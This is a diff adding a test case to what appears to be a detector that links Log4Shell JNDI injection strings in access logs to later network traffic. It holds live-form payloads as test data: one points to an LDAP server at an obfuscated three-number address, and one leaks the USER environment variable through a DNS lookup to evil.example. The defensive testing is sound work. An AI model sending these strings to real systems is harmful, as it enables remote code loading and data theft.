@@ -27,6 +27,12 @@ describe('what another log shows of an attack', () => {
       'likely',
     ],
     [
+      'the address is written in three numbers',
+      access('${jndi:ldap://198.51.25666:1389/a}'),
+      packet('198.51.100.66', 1389),
+      'likely',
+    ],
+    [
       'a name with a value of the process in it',
       access('${jndi:ldap://${env:USER}.evil.example/a}'),
       query('root.evil.example'),
